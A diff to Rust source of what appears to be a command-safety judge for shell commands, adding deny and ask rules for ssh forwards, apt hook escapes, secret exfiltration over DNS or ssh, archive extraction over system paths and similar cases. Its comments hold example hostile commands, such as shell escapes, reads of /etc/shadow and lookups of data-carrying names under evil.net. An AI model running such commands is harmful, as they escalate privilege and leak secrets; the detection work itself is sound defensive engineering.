@@ -610,6 +610,20 @@ pub(crate) fn judge(c: &SimpleCommand) -> Judged {
         arg_rules(c, name, facts, &mut j);
         if let Some(code) = &c.code {
             code_rules(code, &mut j);
+            if matches!(name, "awk" | "gawk" | "mawk" | "nawk") {
+                awk_variable_writes(c, code, &mut j);
+            }
+        }
+        // `ssh host 'cat > x' < /etc/passwd`: a local file sent as the remote command's input.
+        if name == "ssh"
+            && let Source::File(f) = &c.stdin
+            && upload_secret(&f.text)
+        {
+            j.deny(
+                "net.upload-file",
+                C_UPLOAD | Capabilities::FILE_READ,
+                "sends a secret or the password database to another host",
+            );
         }
         if c.argv.iter().any(|w| w.dynamic) && is_lookup_client(name) {
             exfil_dns_rules(c, name, &mut j);
@@ -717,6 +731,132 @@ fn data_args(name: &str) -> bool {
     )
 }
 
+/// `ssh -R 2222:localhost:22 host`: this machine's ssh server opened on another host (deny), any
+/// other remote forward (ask); `ssh -g -L ...` or `-L 0.0.0.0:...`: a local forward every host of
+/// the network can use (deny).
+fn ssh_forward_rules(c: &SimpleCommand, j: &mut Judged) {
+    let args = Args::new(c);
+    let args: &[&str] = &args;
+    let specs = |flag: &'static str| {
+        args.iter().enumerate().filter_map(move |(i, a)| {
+            if *a == flag {
+                args.get(i + 1).copied()
+            } else {
+                a.strip_prefix(flag).filter(|r| !r.is_empty())
+            }
+        })
+    };
+    let open_bind = |spec: &str| {
+        let fields: Vec<&str> = spec.split(':').collect();
+        fields.len() >= 4 && matches!(fields.first(), Some(&("0.0.0.0" | "*" | "" | "[::]")))
+    };
+    let mut remote = false;
+    let mut exposes_ssh = false;
+    for spec in specs("-R") {
+        remote = true;
+        let fields: Vec<&str> = spec.split(':').collect();
+        exposes_ssh |= fields.len() >= 3 && fields.last() == Some(&"22") || open_bind(spec);
+    }
+    if exposes_ssh {
+        j.deny(
+            "net.remote-forward",
+            Capabilities::NETWORK_ACCESS,
+            "opens this machine's ssh server (or a port on every interface) on another host",
+        );
+    } else if remote {
+        j.ask(
+            "net.remote-forward",
+            Capabilities::NETWORK_ACCESS,
+            "opens a port on the remote host back to this machine",
+        );
+    }
+    let gateway = args
+        .iter()
+        .any(|a| a.len() > 1 && a.starts_with('-') && !a.starts_with("--") && a[1..].contains('g'));
+    let local: Vec<&str> = specs("-L").collect();
+    if !local.is_empty() && (gateway || local.iter().any(|s| open_bind(s))) {
+        j.deny(
+            "net.port-forward",
+            Capabilities::NETWORK_ACCESS,
+            "opens a forwarded port that every host of the network can reach",
+        );
+    }
+}
+
+/// `apt-get purge 'linux-image-*'`, `apt-get remove openssh-server`, `dnf erase sudo`: removing
+/// the kernel, remote access, privilege, init or the C library leaves the machine unbootable or
+/// unreachable.
+fn critical_removal(c: &SimpleCommand, j: &mut Judged) {
+    let removes = c.args().any(|a| {
+        matches!(
+            a,
+            "remove" | "purge" | "autoremove" | "erase" | "-R" | "-Rns" | "-Rs" | "-Rdd"
+        )
+    });
+    let critical = c.args().any(|a| {
+        let p = a.trim_matches(['\'', '"']);
+        p.starts_with("linux-image")
+            || p.starts_with("kernel")
+            || p.starts_with("grub")
+            || matches!(
+                p,
+                "openssh-server"
+                    | "ssh"
+                    | "sudo"
+                    | "systemd"
+                    | "systemd-sysv"
+                    | "libc6"
+                    | "glibc"
+                    | "bash"
+                    | "coreutils"
+                    | "dpkg"
+                    | "apt"
+                    | "rpm"
+                    | "linux"
+                    | "linux-generic"
+            )
+    });
+    if removes && critical {
+        j.deny(
+            "package.remove-critical",
+            C_DESTRUCTIVE | C_SYS,
+            "removes the kernel, the boot loader, remote access, sudo, init or the C library",
+        );
+    }
+}
+
+/// `apt-get -o APT::Update::Pre-Invoke::=/bin/sh update`: a configuration option that names a
+/// command apt runs (`...Invoke...`, `DPkg::Pre-Install-Pkgs`). A shell is a shell escape; any
+/// other command asks.
+fn apt_hook_rules(c: &SimpleCommand, shell_arg: &mut bool, j: &mut Judged) {
+    let args = Args::new(c);
+    for (i, a) in args.iter().enumerate() {
+        let opt = match *a {
+            "-o" | "--option" => args.get(i + 1).copied(),
+            _ => a
+                .strip_prefix("--option=")
+                .or_else(|| a.strip_prefix("-o").filter(|r| !r.is_empty())),
+        };
+        let Some((key, value)) = opt.and_then(|o| o.split_once('=')) else {
+            continue;
+        };
+        let key = key.to_ascii_lowercase();
+        if !(key.contains("invoke") || key.contains("pre-install-pkgs")) {
+            continue;
+        }
+        let first = value.split_whitespace().next().unwrap_or("");
+        if is_shell(first.rsplit('/').next().unwrap_or(first)) {
+            *shell_arg = true;
+        } else if !value.trim().is_empty() {
+            j.ask(
+                "gtfo.exec-option",
+                Capabilities::EXECUTES_CODE,
+                "an apt option names a command for apt to run",
+            );
+        }
+    }
+}
+
 /// Patterns in any argument: a shell handed to an ordinary program, `/dev/tcp`, cloud
 /// metadata, credential-printing subcommands.
 fn arg_rules(c: &SimpleCommand, name: &str, facts: NameFacts, j: &mut Judged) {
@@ -809,6 +949,9 @@ fn arg_rules(c: &SimpleCommand, name: &str, facts: NameFacts, j: &mut Judged) {
             C_READ | Capabilities::NETWORK_ACCESS,
             "reads the cloud metadata service (instance credentials)",
         );
+    }
+    if matches!(name, "apt" | "apt-get") {
+        apt_hook_rules(c, &mut shell_arg, j);
     }
     if shell_arg {
         j.deny(
@@ -1185,7 +1328,11 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "0",
     "1h",
     "1m",
+    "7z",
+    "7za",
     "HISTFILE",
+    "R",
+    "Rscript",
     "aa-disable",
     "aa-teardown",
     "access_key",
@@ -1195,6 +1342,8 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "api-key",
     "api_key",
     "apikey",
+    "apt",
+    "apt-get",
     "arptables",
     "at",
     "auditctl",
@@ -1233,6 +1382,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "deluser",
     "destroy",
     "disable",
+    "dnf",
     "docker",
     "doctl",
     "dropdb",
@@ -1244,6 +1394,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "emacs",
     "erase",
     "ex",
+    "exiftool",
     "export",
     "fdisk",
     "fgrep",
@@ -1272,6 +1423,8 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "heroku",
     "hexdump",
     "history",
+    "http-server",
+    "httpd",
     "init",
     "insmod",
     "install",
@@ -1333,12 +1486,14 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "oci",
     "od",
     "openssl",
+    "pacman",
     "parted",
     "passwd",
     "password",
     "perl",
     "permissive",
     "pg",
+    "php",
     "pkill",
     "podman",
     "poweroff",
@@ -1364,6 +1519,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "rpmbuild",
     "rpmspec",
     "rsync",
+    "ruby",
     "run-parts",
     "rview",
     "rvim",
@@ -1385,6 +1541,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "sgdisk",
     "shred",
     "shutdown",
+    "smbclient",
     "socat",
     "source",
     "sqlite3",
@@ -1417,6 +1574,7 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "uninstall",
     "unlink",
     "unset",
+    "unzip",
     "useradd",
     "userdel",
     "usermod",
@@ -1433,10 +1591,12 @@ const COMMAND_RULE_NAMES: &[&str] = &[
     "write.sudoers",
     "xterm",
     "xxd",
+    "yum",
     "zfs",
     "zip",
     "zpool",
     "ztcp",
+    "zypper",
 ];
 
 /// True when [`command_rules`] may have a rule for `name`.
@@ -1725,9 +1885,15 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             }
             if name == "install"
                 && c.argv.windows(2).any(|w| {
+                    let m = w[1].text.as_str();
                     w[0].text == "-m"
-                        && w[1].text.len() == 4
-                        && matches!(w[1].text.as_bytes()[0], b'2' | b'4' | b'6' | b'7')
+                        && ((m.len() == 4 && matches!(m.as_bytes()[0], b'2' | b'4' | b'6' | b'7'))
+                            // `install -m =xs`, `u+s`: the set-uid bit in symbolic form.
+                            || (!m.bytes().all(|b| b.is_ascii_digit())
+                                && m.split(',').any(|p| {
+                                    p.contains(['=', '+'])
+                                        && p.rsplit(['=', '+']).next().is_some_and(|r| r.contains('s'))
+                                })))
                 })
             {
                 j.deny("privilege.setuid", C_PRIV, "installs a set-uid program");
@@ -1787,6 +1953,31 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             }
         }
         "socat" => {
+            // `socat -u tcp-listen:1234 open:/etc/cron.d/x,creat`: a file address written (the
+            // second address of `-u`, or one that creates, appends or truncates), or read.
+            let one_way = c.args().any(|a| a == "-u");
+            let last = c.args().filter(|a| !a.starts_with('-')).last();
+            for a in c.args() {
+                let l = a.to_ascii_lowercase();
+                let Some(path) = ["open:", "create:", "creat:", "gopen:"]
+                    .iter()
+                    .find_map(|p| l.starts_with(p).then(|| a.get(p.len()..).unwrap_or("")))
+                    .map(|r| r.split(',').next().unwrap_or(""))
+                    .filter(|p| !p.is_empty())
+                else {
+                    continue;
+                };
+                let writes = l.starts_with("creat")
+                    || [",creat", ",append", ",trunc"]
+                        .iter()
+                        .any(|o| l.contains(o))
+                    || (one_way && last == Some(a));
+                if writes {
+                    write_target(path, j);
+                } else if paths::read_class(path) == ReadClass::Secret {
+                    j.deny("read.sensitive", C_READ, "socat reads a secret file");
+                }
+            }
             let execs = c.args().any(|a| {
                 let l = a.to_ascii_lowercase();
                 l.starts_with("exec:") || l.starts_with("system:") || l.contains("!!exec:")
@@ -1808,7 +1999,29 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 .filter(|a| a.to_ascii_lowercase().starts_with("tcp"))
                 .count()
                 >= 2;
-            if listen_forward {
+            // `TCP-LISTEN:8080,bind=127.0.0.1,...`: only this machine can reach the relay.
+            let loopback_only = c
+                .args()
+                .filter(|a| {
+                    let l = a.to_ascii_lowercase();
+                    l.starts_with("tcp-listen")
+                        || l.starts_with("tcp4-listen")
+                        || l.starts_with("tcp6-listen")
+                })
+                .all(|a| {
+                    a.split(',').any(|o| {
+                        o.strip_prefix("bind=").is_some_and(|h| {
+                            h.starts_with("127.") || matches!(h, "localhost" | "[::1]" | "::1")
+                        })
+                    })
+                });
+            if listen_forward && loopback_only {
+                j.ask(
+                    "net.listen",
+                    Capabilities::NETWORK_ACCESS,
+                    "relays a port reachable only from this machine to another service",
+                );
+            } else if listen_forward {
                 j.deny(
                     "net.port-forward",
                     Capabilities::NETWORK_ACCESS,
@@ -1918,7 +2131,7 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 );
             }
         }
-        "chpasswd" | "passwd" if c.args().any(|a| a == "root") || name == "chpasswd" => {
+        "passwd" if c.args().any(|a| a == "root") => {
             j.ask("privilege.password", C_PRIV, "changes account passwords")
         }
         "kill" | "pkill" | "killall" | "killall5" => {
@@ -1926,7 +2139,21 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 .args()
                 .filter(|a| !a.starts_with('-') || a.parse::<i64>().is_ok())
                 .collect();
-            if ops.iter().any(|a| *a == "-1" || *a == "1") || name == "killall5" {
+            // `pkill -9 -u root`, `killall -u root`: every process of root, no pattern.
+            let all_of_root = matches!(name, "pkill" | "killall")
+                && c.argv.windows(2).any(|w| {
+                    matches!(
+                        w[0].text.as_str(),
+                        "-u" | "-U" | "--user" | "--euid" | "--uid"
+                    ) && w[1].text == "root"
+                })
+                && c.argv
+                    .iter()
+                    .skip(1)
+                    .filter(|w| !w.text.starts_with('-'))
+                    .count()
+                    <= 1;
+            if ops.iter().any(|a| *a == "-1" || *a == "1") || name == "killall5" || all_of_root {
                 j.deny(
                     "process.kill-all",
                     Capabilities::PROCESS_CONTROL | C_SYS,
@@ -2018,8 +2245,27 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             j.deny("db.drop", C_DESTRUCTIVE, "erases a database")
         }
         "dropdb" | "dropuser" => j.deny("db.drop", C_DESTRUCTIVE, "drops a database"),
+        "apt" | "apt-get" | "dnf" | "yum" | "zypper" | "pacman" => critical_removal(c, j),
         "psql" | "mysql" | "mariadb" | "sqlite3" | "mongosh" | "mongo" | "clickhouse-client"
         | "cqlsh" => {
+            // `sqlite3 :memory: ".import /etc/shadow t" "select * from t"`: a dot command reads
+            // a file into a table the next statement prints.
+            let imports = |a: &str| {
+                a.split(['\n', ';']).any(|l| {
+                    let mut w = l.split_whitespace();
+                    matches!(w.next(), Some(".import" | ".read" | ".open"))
+                        && w.any(|f| {
+                            !f.starts_with('-') && paths::read_class(f) == ReadClass::Secret
+                        })
+                })
+            };
+            if name == "sqlite3" && c.args().any(imports) {
+                j.deny(
+                    "read.sensitive",
+                    C_READ,
+                    "sqlite3 reads a secret file into a table (.import, .read)",
+                );
+            }
             let sql = c.args().map(|a| a.to_ascii_uppercase()).any(|a| {
                 a.contains("DROP DATABASE")
                     || a.contains("DROP TABLE")
@@ -2028,7 +2274,20 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                     || a.contains("DROPDATABASE")
                     || (a.contains("DELETE FROM") && !a.contains("WHERE"))
             });
-            if sql {
+            let sqlite_db = (name == "sqlite3").then(|| sqlite_database(c));
+            if sql && sqlite_db.is_some_and(|db| db.is_none_or(|w| w.text == ":memory:")) {
+                // An in-memory database holds nothing before the command runs.
+            } else if sql
+                && sqlite_db
+                    .flatten()
+                    .is_some_and(|w| paths::target(&w.text, w.dynamic) == Target::Project)
+            {
+                j.ask(
+                    "db.drop-project",
+                    C_DESTRUCTIVE,
+                    "drops or empties tables of a database file inside the project",
+                );
+            } else if sql {
                 j.deny("db.drop", C_DESTRUCTIVE, "drops or empties database tables");
             }
         }
@@ -2072,6 +2331,7 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         }
         "aws" | "gcloud" | "az" | "gsutil" | "gh" | "pulumi" | "doctl" | "flyctl" | "heroku"
         | "vercel" | "firebase" | "npm" | "oci" | "linode-cli" | "hcloud" | "s3cmd" | "rclone" => {
+            cloud_upload_rules(c, name, j);
             let verb = c.args().any(|a| {
                 a.starts_with("delete")
                     || a.starts_with("terminate")
@@ -2136,13 +2396,19 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 );
             }
         }
-        "ssh" if c.argv.windows(2).any(|w| w[0].text == "-R") => {
-            j.ask(
-                "net.remote-forward",
-                Capabilities::NETWORK_ACCESS,
-                "opens a port on the remote host back to this machine",
+        // `ssh -F /etc/shadow x`: ssh prints the lines of a configuration file it cannot parse.
+        "ssh"
+            if c.argv.windows(2).any(|w| {
+                w[0].text == "-F" && paths::read_class(&w[1].text) == ReadClass::Secret
+            }) =>
+        {
+            j.deny(
+                "read.sensitive",
+                C_READ,
+                "ssh -F reads a secret as its configuration and prints its lines in the errors",
             );
         }
+        "ssh" => ssh_forward_rules(c, j),
         "rpm" | "rpmbuild" | "rpmspec" => {
             let mut it = c.args();
             while let Some(a) = it.next() {
@@ -2188,7 +2454,33 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 }
             }
         }
-        _ if name.starts_with("python") => http_server_rules(c, j),
+        _ if name.starts_with("python") => http_server_rules(c, name, j),
+        "httpd" | "php" | "ruby" | "http-server" => http_server_rules(c, name, j),
+        // `R -e 'system("sh")'`, `exiftool -if 'system("sh")' x.jpg`: R code and the Perl
+        // expressions of exiftool are inline code like an interpreter's one-liner.
+        "R" | "Rscript" | "exiftool" => {
+            let args = Args::new(c);
+            for (i, a) in args.iter().enumerate() {
+                let code = match (name, *a) {
+                    ("exiftool", "-if" | "-p" | "-api") | ("R" | "Rscript", "-e") => {
+                        args.get(i + 1).copied()
+                    }
+                    _ => None,
+                };
+                if let Some(code) = code {
+                    code_rules(code, j);
+                    if code_spawns_shell(code)
+                        && !j.findings.iter().any(|f| f.rule == "gtfo.shell-escape")
+                    {
+                        j.deny(
+                            "gtfo.shell-escape",
+                            C_SHELL,
+                            "inline code starts a shell (system(\"sh\"))",
+                        );
+                    }
+                }
+            }
+        }
         "vim" | "vi" | "nvim" | "view" | "vimdiff" | "rvim" | "ex" | "gvim" | "emacs" | "nano" => {
             let cmds = c
                 .argv
@@ -2275,6 +2567,24 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
                 .any(|a| a == "-TT" || a.starts_with("--unzip-command")) =>
         {
             j.deny("gtfo.exec-option", C_SHELL, "zip -TT runs a command");
+        }
+        "tar" | "gtar" | "bsdtar" | "unzip" | "7z" | "7za" => extract_rules(c, name, j),
+        "smbclient" => {
+            let args = Args::new(c);
+            let sent = args.iter().enumerate().filter_map(|(i, a)| match *a {
+                "-c" | "--command" => args.get(i + 1).copied(),
+                _ => a.strip_prefix("--command="),
+            });
+            if sent.flat_map(batch_puts).any(upload_secret) {
+                j.hit_alt(
+                    "net.upload-file",
+                    Decision::Deny,
+                    Risk::Critical,
+                    C_UPLOAD | Capabilities::FILE_READ,
+                    "copies a secret, the password database or a whole home or root tree to another host",
+                    "copy only the project files the other host needs",
+                );
+            }
         }
         "tcpdump" if c.args().any(|a| a == "-z") => {
             j.deny("gtfo.exec-option", C_SHELL, "tcpdump -z runs a command")
@@ -2812,15 +3122,33 @@ fn git_rules(c: &SimpleCommand, j: &mut Judged) {
             "git stash",
         ),
         "clean" => {
-            let force = rest.iter().any(|a| {
-                *a == "--force" || (a.starts_with('-') && !a.starts_with("--") && a.contains('f'))
-            });
-            let wide = rest.iter().any(|a| {
-                a.starts_with('-')
-                    && !a.starts_with("--")
-                    && (a.contains('x') || a.contains('d') || a.contains('X'))
-            });
-            if force && wide {
+            let short = |letter: char| {
+                rest.iter()
+                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(letter))
+            };
+            let force = rest.contains(&"--force") || short('f');
+            let wide = short('x') || short('d') || short('X');
+            // `-X` alone removes only what .gitignore names (build output, caches): files the
+            // project can regenerate, though an ignored local config goes with them.
+            if force && short('X') && !short('x') {
+                j.hit_alt(
+                    "git.clean-ignored",
+                    Decision::Ask,
+                    Risk::High,
+                    C_DESTRUCTIVE,
+                    "deletes the ignored files (build output, caches, ignored local files)",
+                    "git clean -nX (dry run)",
+                );
+            } else if force && wide && clean_scoped(rest) {
+                j.hit_alt(
+                    "git.clean-path",
+                    Decision::Ask,
+                    Risk::High,
+                    C_DESTRUCTIVE,
+                    "deletes the untracked files below the named project paths",
+                    "git clean -n -d PATH (dry run)",
+                );
+            } else if force && wide {
                 j.hit_alt(
                     "git.clean-force",
                     Decision::Deny,
@@ -2959,6 +3287,95 @@ fn git_rules(c: &SimpleCommand, j: &mut Judged) {
 }
 
 /// Branches whose loss hurts everyone: the main line, release and production branches.
+/// `git clean -fd build/ tmp/`: every pathspec names a path below the project's top (not `.`,
+/// `*`, `:/`, a parent, an absolute or a run-time path).
+fn clean_scoped(rest: &[&str]) -> bool {
+    let mut ops = Vec::new();
+    let mut it = rest.iter();
+    let mut after_dd = false;
+    while let Some(a) = it.next() {
+        if !after_dd && *a == "--" {
+            after_dd = true;
+        } else if !after_dd && matches!(*a, "-e" | "--exclude") {
+            it.next();
+        } else if after_dd || !a.starts_with('-') {
+            ops.push(*a);
+        }
+    }
+    !ops.is_empty()
+        && ops.iter().all(|o| {
+            let o = o.trim_end_matches('/');
+            !o.is_empty()
+                && !matches!(o, "." | "*" | ".*" | "./*" | ".git")
+                && !o.starts_with(':')
+                && !o.starts_with('/')
+                && !o.starts_with('~')
+                && !o.starts_with('$')
+                && !o.starts_with("..")
+                && !o.contains("/..")
+                && !o.starts_with('*')
+        })
+}
+
+/// `tar -xf x.tar -C /`, `unzip -o x.zip -d /etc`, `7z x a.7z -o~`: an archive unpacked over the
+/// root, a home, a system tree or the access files; it may replace anything there.
+fn extract_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
+    let args = Args::new(c);
+    let extracts = match name {
+        "unzip" => true,
+        "7z" | "7za" => args.first().is_some_and(|a| matches!(*a, "x" | "e")),
+        _ => args.iter().any(|a| {
+            *a == "--extract"
+                || *a == "--get"
+                || (!a.starts_with("--")
+                    && a.contains('x')
+                    && (a.starts_with('-') || args.first() == Some(a)))
+        }),
+    };
+    if !extracts {
+        return;
+    }
+    let dir = args.iter().enumerate().find_map(|(i, a)| match (name, *a) {
+        ("unzip", "-d") | ("tar" | "gtar" | "bsdtar", "-C" | "--directory") => {
+            args.get(i + 1).copied()
+        }
+        ("7z" | "7za", _) => a.strip_prefix("-o"),
+        ("tar" | "gtar" | "bsdtar", _) => a.strip_prefix("--directory="),
+        _ => None,
+    });
+    let Some(dir) = dir else {
+        return;
+    };
+    let n = paths::normalize(dir);
+    let n = n.trim_end_matches('/');
+    // `/usr/local` and `/opt` are where software is unpacked by hand (`tar -C /usr/local -xzf
+    // go.tar.gz`): not flagged here.
+    let system = matches!(n, "/usr" | "/bin" | "/sbin" | "/lib" | "/lib64")
+        || [
+            "/etc",
+            "/boot",
+            "/root",
+            "~/.ssh",
+            "~/.config/systemd",
+            "~/.config/autostart",
+        ]
+        .iter()
+        .any(|d| n == *d || n.strip_prefix(d).is_some_and(|r| r.starts_with('/')));
+    // A home itself (its rc files), not a directory inside it (`-C ~/.local`).
+    let home = matches!(n, "~" | "$HOME" | "${HOME}")
+        || ["/home/", "/Users/"].iter().any(|d| {
+            n.strip_prefix(d)
+                .is_some_and(|u| !u.is_empty() && !u.contains('/'))
+        });
+    if n.is_empty() || system || home || paths::target(n, false) == Target::Root {
+        j.deny(
+            "write.sensitive",
+            C_WRITE | Capabilities::PERSISTENCE,
+            "unpacks an archive over the root, a home or system files (it may replace start-up and access files)",
+        );
+    }
+}
+
 fn protected_branch(b: &str) -> bool {
     let b = b.strip_prefix("origin/").unwrap_or(b);
     matches!(
@@ -3077,6 +3494,21 @@ fn docker_rules(c: &SimpleCommand, j: &mut Judged) {
 
 fn kubectl_rules(c: &SimpleCommand, j: &mut Judged) {
     let args = Args::new(c);
+    // `kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=...`
+    if args
+        .iter()
+        .any(|a| matches!(*a, "clusterrolebinding" | "rolebinding"))
+        && (args.contains(&"--clusterrole=cluster-admin")
+            || args
+                .windows(2)
+                .any(|w| w[0] == "--clusterrole" && w[1] == "cluster-admin"))
+    {
+        j.deny(
+            "privilege.cluster-admin",
+            C_PRIV,
+            "binds the cluster-admin role (full control of the cluster)",
+        );
+    }
     if args.contains(&"delete") {
         let all = args
             .iter()
@@ -3206,6 +3638,15 @@ fn sed_rules(c: &SimpleCommand, j: &mut Judged) {
                 );
                 return;
             }
+            // `sed -n 'w /etc/cron.d/x'`, `s/a/b/w FILE`, `/re/w FILE`: sed writes a file.
+            let p = p.trim_start_matches(['/', '!']).trim_start();
+            let target = p
+                .strip_prefix("w ")
+                .or_else(|| p.find("/w ").map(|at| &p[at + 3..]))
+                .map(str::trim);
+            if let Some(t) = target.filter(|t| !t.is_empty()) {
+                write_target(t, j);
+            }
         }
     }
 }
@@ -3322,9 +3763,17 @@ fn is_http_client(name: &str) -> bool {
 const SUB: char = '\u{1}';
 const NAME_SUB: char = '\u{3}';
 const HOST_SUB: char = '\u{2}';
+/// The `{}` placeholder of `xargs -I{}` (the parser writes it `$(xargs input)`): its data is
+/// what the line pipes into `xargs`, judged by [`carried_host_refs`] and the line rules.
+const XARGS_SUB: char = '\u{4}';
+/// A shell variable (`$l`, `${l}`) in a host-name skeleton.
+const VAR_SUB: char = '\u{5}';
 
 /// What a substitution's code prints, as one of the marks above.
 fn substitution_mark(inner: &str) -> char {
+    if inner == "xargs input" {
+        return XARGS_SUB;
+    }
     let programs: Vec<&str> = inner
         .split(['|', ';', '&', '\n'])
         .filter_map(|seg| {
@@ -3429,7 +3878,11 @@ fn substitution_skeleton(word: &str) -> Option<String> {
 /// is in it, `Some(false)` when only names from build and cloud tools are.
 fn exfil_host(host: &str) -> Option<bool> {
     let label_char = |ch: char| {
-        ch.is_ascii_alphanumeric() || matches!(ch, '-' | '_' | SUB | NAME_SUB | HOST_SUB)
+        ch.is_ascii_alphanumeric()
+            || matches!(
+                ch,
+                '-' | '_' | SUB | NAME_SUB | HOST_SUB | XARGS_SUB | VAR_SUB
+            )
     };
     let labels: Vec<&str> = host.split('.').collect();
     let at = labels
@@ -3518,16 +3971,9 @@ fn exfil_dns_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         let Some(skel) = substitution_skeleton(&w.text) else {
             continue;
         };
-        let (url, host) = match skel.split_once("://") {
-            Some((_, rest)) => (true, rest),
-            None => (false, skel.trim_start_matches('@')),
-        };
-        let host = host.split(['/', '?', '#', ' ']).next().unwrap_or("");
-        let host = host.rsplit('@').next().unwrap_or(host);
-        let host = host.split(':').next().unwrap_or(host);
-        if http && !url && host.rsplit('.').next().is_some_and(file_extension) {
+        let Some(host) = skeleton_host(&skel, http) else {
             continue;
-        }
+        };
         match exfil_host(host) {
             Some(true) => {
                 j.deny(
@@ -3544,6 +3990,163 @@ fn exfil_dns_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             ),
             None => {}
         }
+    }
+}
+
+/// The host part of a network client's argument skeleton (`user@host:port/path` -> `host`);
+/// `None` for an HTTP client's bare file name (`$(date +%F).tar.gz`).
+fn skeleton_host(skel: &str, http: bool) -> Option<&str> {
+    let (url, host) = match skel.split_once("://") {
+        Some((_, rest)) => (true, rest),
+        None => (false, skel.trim_start_matches('@')),
+    };
+    let host = host.split(['/', '?', '#', ' ']).next().unwrap_or("");
+    let host = host.rsplit('@').next().unwrap_or(host);
+    let host = host.split(':').next().unwrap_or(host);
+    if http && !url && host.rsplit('.').next().is_some_and(file_extension) {
+        return None;
+    }
+    Some(host)
+}
+
+/// The variables (`$l`, `${l}`; `{}` for the `xargs -I{}` placeholder) that a network client
+/// joins to a domain in a host name (`nslookup $l.t.example.net`, `ping {}.evil.net`): looking
+/// the name up sends the variable's value to that domain's name server. Where the value comes
+/// from is the line's business ([`carried_data`]).
+pub(crate) fn carried_host_refs(c: &SimpleCommand, name: &str) -> Vec<String> {
+    let http = is_http_client(name);
+    let mut refs = Vec::new();
+    for w in c.argv.iter().skip(1).filter(|w| w.dynamic) {
+        if w.text.starts_with('-') || w.text.starts_with('+') || !w.text.contains('$') {
+            continue;
+        }
+        let Some(skel) = substitution_skeleton(&w.text) else {
+            continue;
+        };
+        let mut out = String::with_capacity(skel.len());
+        let mut names = Vec::new();
+        let mut rest = skel.as_str();
+        while let Some(at) = rest.find('$') {
+            out.push_str(rest.get(..at).unwrap_or(""));
+            let after = rest.get(at + 1..).unwrap_or("");
+            let (braced, body) = match after.strip_prefix('{') {
+                Some(b) => (true, b),
+                None => (false, after),
+            };
+            let len = body
+                .char_indices()
+                .find(|&(k, ch)| {
+                    !(ch == '_' || ch.is_ascii_alphabetic() || (k > 0 && ch.is_ascii_digit()))
+                })
+                .map_or(body.len(), |(k, _)| k);
+            let closed = !braced || body.get(len..).is_some_and(|r| r.starts_with('}'));
+            if len == 0 || !closed {
+                out.push('$');
+                rest = after;
+                continue;
+            }
+            names.push(body.get(..len).unwrap_or("").to_owned());
+            out.push(VAR_SUB);
+            rest = body.get(len + usize::from(braced)..).unwrap_or("");
+        }
+        out.push_str(rest);
+        if out.contains(XARGS_SUB) {
+            names.push("{}".to_owned());
+        }
+        let Some(host) = skeleton_host(&out, http) else {
+            continue;
+        };
+        let labels: Vec<&str> = host.split('.').collect();
+        let Some(at) = labels
+            .iter()
+            .position(|l| l.contains(VAR_SUB) || l.contains(XARGS_SUB))
+        else {
+            continue;
+        };
+        let tail = labels.get(at..).unwrap_or_default();
+        let tld = labels.last().copied().unwrap_or("");
+        let label_char = |ch: char| {
+            ch.is_ascii_alphanumeric()
+                || matches!(
+                    ch,
+                    '-' | '_' | SUB | NAME_SUB | HOST_SUB | XARGS_SUB | VAR_SUB
+                )
+        };
+        if tail.len() >= 2
+            && tail
+                .iter()
+                .all(|l| !l.is_empty() && l.chars().all(label_char))
+            && tld.len() >= 2
+            && tld.chars().all(|ch| ch.is_ascii_alphabetic())
+        {
+            refs.extend(names);
+        }
+    }
+    refs
+}
+
+/// What a command that feeds a variable or an `xargs` placeholder produces: its
+/// [`fed_data_class`], whether it is strong evidence of a tunnel on its own — a secret (or the
+/// whole environment, or the user's identity) read, the password and group databases — and
+/// whether it is an encoder (`base64`, `xxd`) that turns data into name-safe labels.
+pub(crate) fn carried_data(c: &SimpleCommand) -> (u8, bool, bool) {
+    let name = c.static_name().unwrap_or("");
+    let encoder = matches!(
+        name,
+        "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" | "hd"
+    );
+    let file = match &c.stdin {
+        Source::File(w) => Some(w.text.as_str()),
+        _ => None,
+    };
+    let (file_class, file_secret) = file.map_or((0, false), carried_file);
+    let env_dump =
+        matches!(name, "env" | "printenv" | "set" | "export" | "declare") && c.argv.len() <= 1;
+    // What `$(whoami).x.example.net` is denied for at the command level: who and where.
+    let recon = matches!(
+        name,
+        "whoami" | "id" | "uname" | "history" | "ps" | "printenv"
+    );
+    let secret = env_dump
+        || recon
+        || c.args()
+            .chain(
+                c.redirects
+                    .iter()
+                    .filter(|r| r.op.reads())
+                    .map(|r| r.target.text.as_str()),
+            )
+            .any(|t| {
+                let t = t
+                    .split_once('=')
+                    .filter(|(k, _)| k.starts_with('-') || *k == "if")
+                    .map_or(t, |(_, v)| v);
+                !t.starts_with('-') && upload_secret(t)
+            });
+    let class = if secret { 2 } else { fed_data_class(c) };
+    (class.max(file_class), secret || file_secret, encoder)
+}
+
+/// A dump of every database of a server (`pg_dumpall`, `mysqldump --all-databases`).
+pub(crate) fn dumps_everything(c: &SimpleCommand) -> bool {
+    match c.static_name() {
+        Some("pg_dumpall") => true,
+        Some("mysqldump" | "mariadb-dump") => c.args().any(|a| a == "--all-databases" || a == "-A"),
+        _ => false,
